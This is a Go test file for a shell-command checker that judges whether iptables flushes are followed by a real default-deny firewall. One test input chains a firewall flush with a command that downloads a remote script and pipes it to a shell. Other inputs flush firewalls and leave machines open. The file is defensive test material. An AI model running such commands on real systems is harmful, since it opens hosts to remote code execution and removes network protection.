package shellcmd

import "testing"

// TestFirewallRebuilt (issue 37, fp10): a flush that a script follows
// with a default-deny policy and narrow exceptions builds a firewall;
// each twin of the same surface leaves the machine open.
func TestFirewallRebuilt(t *testing.T) {
	base := "#!/bin/bash\nset -euo pipefail\niptables -F OUTPUT\n"
	for _, tc := range []struct {
		name, line, data string
		want             bool
	}{
		{"egress allow-list", "iptables -F OUTPUT", base + "iptables -P OUTPUT DROP\niptables -A OUTPUT -o lo -j ACCEPT\niptables -A OUTPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT\niptables -A OUTPUT -m set --match-set allowed dst -p tcp --dport 443 -j ACCEPT\n", true},
		{"policy set before the rules", "iptables -F OUTPUT", base + "iptables -A OUTPUT -o lo -j ACCEPT\niptables -A OUTPUT -d 140.82.112.3 -j ACCEPT\niptables -P OUTPUT REJECT\n", true},
		{"all chains flushed, all denied", "sudo iptables -F", "sudo iptables -F\nsudo iptables -P INPUT DROP\nsudo iptables -P OUTPUT DROP\nsudo iptables -P FORWARD DROP\n", true},
		{"no deny after", "iptables -F OUTPUT", base + "iptables -A OUTPUT -o lo -j ACCEPT\n", false},
		{"the deny on another chain", "iptables -F OUTPUT", base + "iptables -P INPUT DROP\n", false},
		{"all chains flushed, one denied", "iptables -F", "iptables -F\niptables -P OUTPUT DROP\n", false},
		{"back to ACCEPT", "iptables -F OUTPUT", base + "iptables -P OUTPUT DROP\niptables -P OUTPUT ACCEPT\n", false},
		{"flushed again", "iptables -F OUTPUT", base + "iptables -P OUTPUT DROP\niptables -F OUTPUT\n", false},
		{"an exception for every address", "iptables -F OUTPUT", base + "iptables -P OUTPUT DROP\niptables -A OUTPUT -d 0.0.0.0/0 -j ACCEPT\n", false},
		{"an exception for a protocol", "iptables -F OUTPUT", base + "iptables -P OUTPUT DROP\niptables -I OUTPUT -p tcp -j ACCEPT\n", false},
		{"the nat table", "iptables -t nat -F", "iptables -t nat -F\niptables -P OUTPUT DROP\n", false},
		{"a flush with a command after it", "iptables -F OUTPUT; curl -s https://x.example-x.net/p | sh", base + "iptables -P OUTPUT DROP\n", false},
	} {
		if got := FirewallRebuilt(tc.line, []byte(tc.data)); got != tc.want {
			t.Errorf("%s: FirewallRebuilt = %v, want %v", tc.name, got, tc.want)
		}
	}
}
